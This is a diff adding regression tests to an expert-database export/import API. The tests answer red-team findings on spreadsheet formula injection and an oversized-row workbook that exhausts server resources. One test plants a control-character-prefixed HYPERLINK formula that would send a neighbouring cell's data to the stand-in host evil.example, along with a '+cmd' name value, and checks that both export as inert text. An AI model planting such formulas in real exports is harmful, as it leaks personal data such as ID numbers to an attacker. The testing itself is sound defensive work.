@@ -174,6 +174,29 @@ def test_export_neutralises_formulas_and_masks_for_provinces(office_api, api_as,
     assert expert.id_number not in values and any("*" in str(v) for v in values)
 
 
+def test_a_formula_hidden_behind_a_control_character_stays_text_in_the_offices_export(office_api, make_expert, db):
+    # Red-team finding: a city "\u0001=HYPERLINK(...)" was neutralised first and stripped of its control
+    # character afterwards, leaving a live formula beside unmasked ID numbers.
+    make_expert(city="\u0001=HYPERLINK(\"http://evil.example/?\"&D2,\"x\")", name="\u200b+cmd")
+    expert = db.session.scalar(select(Expert))
+    for fmt in ("xlsx", "csv"):
+        data = office_api.get(f"/experts/export?format={fmt}").data
+        if fmt == "xlsx":
+            sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+            cells = {c.value: c for c in sheet[2]}
+            city = next(c for v, c in cells.items() if isinstance(v, str) and "HYPERLINK" in v)
+            name = sheet["A2"]
+            assert expert.id_number in cells  # the Office's export: unmasked, so the stakes are real
+            assert all(c.data_type != "f" for c in sheet[2])
+        else:
+            row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
+            city = next(v for v in row if "HYPERLINK" in v)
+            name = row[0]
+        city_text = city if isinstance(city, str) else city.value
+        name_text = name if isinstance(name, str) else name.value
+        assert city_text == "'=HYPERLINK(\"http://evil.example/?\"&D2,\"x\")" and name_text == "'+cmd", fmt
+
+
 def test_export_then_reimport_round_trip(office_api, make_expert, db):
     for _ in range(3):
         make_expert()
@@ -195,3 +218,22 @@ def test_import_template_parses_and_imports(office_api, db, fmt):
     response = upload(office_api, template.data, f"template.{fmt}")
     assert response.status_code == 201, response.json
     assert expert_count(db) == 1
+
+
+def test_a_province_dry_run_of_a_two_million_cell_row_is_a_quick_bilingual_422(api_as, monkeypatch):
+    # Red-team item 5: a 229 KB workbook of one 2,000,000-cell row held a worker for 50 s and 2 GB. It is refused
+    # before openpyxl parses anything (the bound is checked on the zip's directory and the sheet's first bytes).
+    from expert_pool.rules.tabular import xlsx
+    from tests.expert_pool.test_tabular import wide_row_workbook
+
+    def no_parse(*args, **kwargs):
+        raise AssertionError("parsed")
+
+    monkeypatch.setattr(xlsx, "load_workbook", no_parse)
+    data = wide_row_workbook(2_000_000)
+    for lang, words in (("zh", "列"), ("en", "columns")):
+        response = upload(api_as("province", lang=lang, province="32"), data, "x.xlsx", dry_run=True)
+        assert response.status_code == 422, response.json
+        assert response.json["code"] in ("too_many_columns", "file_too_large")
+        assert response.json["errors"]["file"] and (words in response.json["message"]
+                                                    or response.json["code"] == "file_too_large")
